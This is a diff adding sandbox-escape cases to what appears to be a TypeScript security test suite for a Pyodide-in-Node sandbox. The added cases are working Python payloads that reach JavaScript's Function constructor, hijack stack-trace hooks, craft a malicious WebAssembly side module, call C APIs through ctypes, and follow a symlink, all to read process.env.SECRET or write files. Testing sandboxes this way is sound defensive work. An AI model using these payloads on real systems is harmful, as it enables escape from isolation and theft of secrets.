@@ -31,6 +31,41 @@ while frame is not None:
     frame = frame.f_back
 `;
 
+/** Pyodide's core once more, and an object of JavaScript from it. */
+const CORE = `import sys, _imp, importlib.machinery
+core = _imp.create_builtin(importlib.machinery.ModuleSpec('_pyodide_core', importlib.machinery.BuiltinImporter))
+array = core.to_js([1])`;
+
+/** `value` followed to whatever makes functions of texts. */
+const LED_ON = `
+def lead_on(value):
+    for way in ('constructor', '__proto__'):
+        try:
+            step = getattr(value, way)
+            return getattr(step, 'constructor').new('return process.env.SECRET')()
+        except BaseException as error:
+            said.append(repr(error))
+said = []`;
+
+/** A side module of WebAssembly whose JavaScript (EM_JS) Emscripten turns into a function when it is loaded. */
+const SIDE_MODULE = (script: string) => `import ctypes, struct
+script = ctypes.create_string_buffer(('()<::>{};' + ${script}).encode())
+def number(n):
+    out = b''
+    while True:
+        byte, n = n & 127, n >> 7
+        if (n == 0 and not byte & 64) or (n == -1 and byte & 64):
+            return out + bytes([byte])
+        out += bytes([byte | 128])
+def section(kind, content):
+    return bytes([kind]) + number(len(content))[:1] + content
+name = b'__em_js__evil'
+module = b'\\0asm' + struct.pack('<I', 1)
+module += section(0, bytes([8]) + b'dylink.0' + bytes([1, 4, 0, 0, 0, 0]))
+module += section(6, bytes([1, 0x7f, 0, 0x41]) + number(ctypes.addressof(script)) + bytes([0x0b]))
+module += section(7, bytes([1, len(name)]) + name + bytes([3, 0]))
+open('/tmp/evil.so', 'wb').write(module)`;
+
 export const ATTACKS: readonly Attack[] = [
   attack('js: the process', `import js\nreturn js.process.env.SECRET`),
   attack(
@@ -203,5 +238,67 @@ try:
     js.JSON.parse('{')
 except BaseException as error:
     return error.constructor.constructor.new('return process.env.SECRET')()`,
+  ),
+  attack(
+    'the core of Pyodide made anew',
+    `${CORE}\nreturn array.constructor.constructor.new('return process.env.SECRET')()`,
+  ),
+  attack(
+    'the calls on the stack of an error',
+    `${CORE}
+${LED_ON.trim()}
+def prepare(error, calls):
+    found.append(lead_on(calls))
+    for call in calls:
+        found.append(lead_on(call))
+        for name in ('getThis', 'getFunction'):
+            found.append(lead_on(getattr(call, name)()))
+    return ''
+found = []
+try:
+    array.constructor.new(-1)
+except BaseException as error:
+    Error = getattr(error.constructor, '__proto__')
+Error.stackTraceLimit = 200
+Error.prepareStackTrace = core.create_proxy(prepare)
+str(Error.new('x').stack)
+return repr(found) + repr(said)`,
+  ),
+  attack(
+    'a side module of WebAssembly with JavaScript in it',
+    `${SIDE_MODULE('"process.getBuiltinModule(\'node:fs\').writeFileSync(" + repr(marker) + ", \'x\')"')}
+ctypes.CDLL('/tmp/evil.so')
+return ''`,
+  ),
+  attack(
+    'a compiled module of such a kind, imported',
+    `${SIDE_MODULE('"process.getBuiltinModule(\'node:fs\').writeFileSync(" + repr(marker) + ", \'x\')"')}
+import importlib.machinery, importlib.util
+spec = importlib.util.spec_from_file_location('evil', '/tmp/evil.so')
+importlib.util.module_from_spec(spec)
+return ''`,
+  ),
+  attack(
+    'functions of C that call JavaScript',
+    `import ctypes
+lib = ctypes.pythonapi
+lib.PyRun_SimpleString.argtypes = [ctypes.c_char_p]
+lib.PyRun_SimpleString(b"import builtins, js; builtins.leaked = js.process.env.SECRET")
+import builtins
+return builtins.leaked`,
+  ),
+  attack(
+    'what runs at exit',
+    `import atexit, os
+atexit.register(lambda: os.system('touch ' + marker))
+atexit._run_exitfuncs()
+return ''`,
+  ),
+  attack(
+    'a package folder that leads out',
+    `import os
+os.symlink(folder, '/packages/out') if os.path.isdir('/packages') else None
+return open('/packages/out/secret.txt').read()`,
+    'refuses',
   ),
 ];
